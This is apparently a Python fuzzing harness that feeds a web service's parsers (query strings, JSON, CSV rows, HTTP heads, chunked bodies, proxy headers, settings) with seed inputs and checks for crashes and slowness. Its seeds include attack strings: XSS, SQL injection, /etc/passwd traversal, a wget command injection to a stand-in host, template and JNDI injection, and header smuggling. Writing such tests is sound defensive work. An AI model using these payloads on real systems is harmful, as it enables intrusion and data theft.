"""Every parser that meets bytes of strangers, as a target of fuzzing: what it reads, and how it may say no.

Shared by the tests (hypothesis) and by ``make siege-fuzz`` (guided by coverage). A finding is an exception that is not
the parser's own refusal, a broken law, or more processor time than ``SECONDS_A_CASE``.
"""

import io
import time
import tomllib
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from ipaddress import ip_address

from service.catalogue.rows import BadRow, open_text, read_rows
from service.errors import Refused
from service.messages import Brief, Request
from service.monitoring.rules import RULES, override
from service.paging import Pager
from service.reading import BadSetting, networks
from service.settings import Settings
from service.stages import validate
from service.stages.identify import client_of
from service.stages.suspicion import classify
from service.wire.chunked import ChunkedBody
from service.wire.strict import parse_head

SECONDS_A_CASE = 0.5
"""Processor time that one input may take; the largest inputs here have 8 KiB."""

NASTY = (
    *(b"\x00", b"\xff", b"\r\n", b"%", b"%25", b'"', b"[", b"{", b"\\ud800", b"9" * 30, b"e9", b"-1", b"0", b"NaN"),
    *("\u2028".encode(), "\ufdfa".encode(), "\u0301".encode(), "\u0663".encode(), b"\xc0\xaf", b"1e999", b"0x"),
)
"""What often breaks a reader."""

_PAGER = Pager(b"a key for fuzzing")
_NETWORKS = networks("10.0.0.0/8, 2001:db8::/32")


@dataclass(frozen=True, slots=True)
class Target:
    """``read`` takes the bytes of a stranger; it may raise ``refusals`` and nothing else."""

    name: str
    read: Callable[[bytes], object]
    refusals: tuple[type[Exception], ...]
    seeds: tuple[bytes, ...]


class TooSlow(Exception):
    """A case took longer than ``SECONDS_A_CASE``."""


def check(target: Target, data: bytes) -> None:
    """Let a target read; raises what it must not raise, and ``TooSlow``."""
    began = time.thread_time()
    with suppress(*target.refusals):
        target.read(data)
    taken = time.thread_time() - began
    if taken > SECONDS_A_CASE:
        raise TooSlow(f"{target.name} took {taken:.2f} s for {len(data)} bytes")


def _query(data: bytes) -> None:
    asked = validate.from_query_string(data.decode("latin-1"))
    assert 1 <= asked.max_results <= 100
    assert 1 <= len(asked.brief.spec) <= 1000


def _body(data: bytes) -> None:
    environ = {"CONTENT_TYPE": "application/json"}
    asked = validate.from_json(Request("POST", "", "", "", "192.0.2.1", 0.0, environ, lambda: data))
    assert 1 <= asked.max_results <= 100


def _cursor(data: bytes) -> None:
    _PAGER.read(data.decode("latin-1"), Brief("cars"))
    raise AssertionError("nobody but the service can sign a cursor")


def _text(data: bytes) -> None:
    assert classify(data.decode("utf-8", "replace")[:1000]) in {None, "xss", "sqli", "path-traversal", "code-injection"}


def _rows(data: bytes, kind: str) -> None:
    for row in read_rows(open_text(io.BytesIO(data)), kind):  # type: ignore[arg-type]
        if isinstance(row, BadRow):
            assert row.line >= 1
            assert "\n" not in row.reason
        else:
            assert 1 <= len(row.id) <= 128


def _head(data: bytes) -> None:
    head = parse_head(data)
    assert head.path == "*" or (head.path.startswith("/") and not head.path.startswith("//"))
    assert head.length >= 0
    assert not (head.chunked and "content-length" in head.headers)


def _host(data: bytes) -> None:
    head = parse_head(b"GET / HTTP/1.1\r\nHost: " + data)
    assert not set(head.headers["host"]) & set(' \t"<>\\/@,')


class _Sink:
    def append(self, part: bytes) -> None:
        pass


def _chunks(data: bytes) -> None:
    """The first byte says in what pieces the rest arrives: that must never change what is read."""
    step, rest = (data[0] % 7 + 1, data[1:]) if data else (1, b"")
    whole, pieces = ChunkedBody(_Sink(), 4096), ChunkedBody(_Sink(), 4096)
    whole.received(rest)
    for at in range(0, len(rest), step):
        if pieces.completed or pieces.error:
            break
        pieces.received(rest[at : at + step])
    assert len(whole) <= 4096
    assert (whole.completed, bool(whole.error)) == (pieces.completed, bool(pieces.error)) or whole.error


def _forwarded(data: bytes) -> None:
    text = data.decode("latin-1")
    for proxies in (0, 1, 3, _NETWORKS):
        ip_address(client_of("10.0.0.1", text, proxies))


def _rules(data: bytes) -> None:
    override(RULES, tomllib.loads(data.decode()), "rules.toml")


def _settings(data: bytes) -> None:
    pairs = [line.partition("=") for line in data.decode("utf-8", "surrogateescape").split("\n")]
    Settings.from_env({name: value for name, _, value in pairs}).masked()


TARGETS = (
    Target(
        "query",
        _query,
        (Refused,),
        (
            b"spec=women%2030-39%20who%20ski&max_results=2",
            b"spec=cars&platforms=the-trade-desk,dv360&countries=US,DE&max_cpm=4.5&kind=audience",
            b"spec=%3Cscript%3Ealert(1)&cursor=AY4O2dpMD81DZ0fsAYs8BwEAAl0qbvvw7UPFMrBUahtHDBh0kHcM",
            b"spec=a&spec=b&min_coverage_percentage=1e2",
            b"spec=%EF%B7%BA%EF%B7%BA+%C3%A9%CC%81&context_id=x:1",
        ),
    ),
    Target(
        "json body",
        _body,
        (Refused,),
        (
            b'{"signal_spec": "cars", "max_results": 5, "countries": ["US"]}',
            b'{"signal_spec": "cars", "destinations": [{"type": "platform", "platform": "dv360"}]}',
            b'{"signal_spec": "cars", "filters": {"kind": ["audience"], "max_cpm": 4.5, "data_providers": ["A"]}}',
            b'[[[[[[{"a":1e999,"b":NaN,"a":"\\ud800"}]]]]]]',
        ),
    ),
    Target("cursor", _cursor, (Refused,), (b"AY4O2dpMD81DZ0fsAYs8BwEAAl0qbvvw7UPFMrBUahtHDBh0kHcM", b"AQ==", b"-_")),
    Target(
        "free text",
        _text,
        (),
        (
            b"<svg onload=alert(1)>",
            b"1' union select name, pass from users --",
            b"%25252e%25252e/etc/passwd",
            b"; wget http://x.example/a",
            "ﷺ&#x3c;\\u003c+ADw-¼¾".encode(),
            b"c$@at+/et$@c/pas''swd;{{7*7}}${jndi:ldap}",
        ),
    ),
    Target(
        "rows of CSV",
        lambda data: _rows(data, "csv"),
        (),
        (
            b"id,name,cpm,countries\na,Cars,3.2,US;DE\n",
            b'\xef\xbb\xbfid,name,path,deployments\n"a","C ""x""","A > B","[{""platform"":""x""}]"\n',
            b"id,name,coverage_percentage\na,b,1e400\nb,\xff,-1\n",
        ),
    ),
    Target(
        "rows of JSON",
        lambda data: _rows(data, "jsonl"),
        (),
        (
            b'{"id":"a","name":"Cars","cpm":3.2,"countries":["US"]}\n{"id":"b","name":"X","path":["A","B"]}',
            b'{"id":"a","name":"Cars","deployments":[{"type":"platform","platform":"x","is_live":true}]}',
            b'[[[[{"id":1e400,"name":null,"x":NaN}',
        ),
    ),
    Target(
        "request head",
        _head,
        (Refused,),
        (
            b"GET /api/signals?spec=cars HTTP/1.1\r\nHost: localhost:8000\r\nX-Forwarded-For: 10.0.0.1",
            b"POST http://a:80/%2e%2e//x HTTP/1.1\r\nHost: a\r\nContent-Length: 5",
            b"OPTIONS * HTTP/1.0\r\nTransfer-Encoding: chunked\r\n x",
        ),
    ),
    Target("host", _host, (Refused,), (b"localhost:8000", b"[::1]:80", b"a b", b"a\r\nHost: b")),
    Target(
        "chunks",
        _chunks,
        (),
        (b"\x005\r\nhello\r\n0\r\n\r\n", b"\x03a;x=y\r\n0123456789\r\n0\r\nX: y\r\n\r\n", b"\x01g\r\n"),
    ),
    Target(
        "forwarded for",
        _forwarded,
        (),
        (b"203.0.113.9, 10.0.0.2", b"[2001:db8::1]:443, fe80::1%eth0", b"::ffff:192.0.2.1,,junk<script>, 1.2.3.4:5"),
    ),
    Target(
        "alert rules",
        _rules,
        (ValueError,),
        (b"[QueueBacklog]\nfires = 60\nfor_seconds = 30\n", b"[HighCpu]\nwarns = inf\n", b"HighCpu = 1\n[[x]]\n"),
    ),
    Target(
        "settings",
        _settings,
        (BadSetting,),
        (
            b"RATE_LIMIT=100/60\nTRUSTED_PROXIES=10.0.0.0/8,2001:db8::/32\nBLOCK_ALLOW=::1",
            b"CATALOGUE_UPLOAD_BYTES=64 MiB\nALLOWED_ORIGINS=https://a.example,*\nBASE_URL=https://a.example:99999/x",
            b"PORT=\xd9\xa3\nQUEUE_WAIT_SECONDS=nan\nWARM_QUERIES=a,,b\nLOG_FORMAT=console\nGEMINI_MODEL=../x",
        ),
    ),
)  # fmt: skip
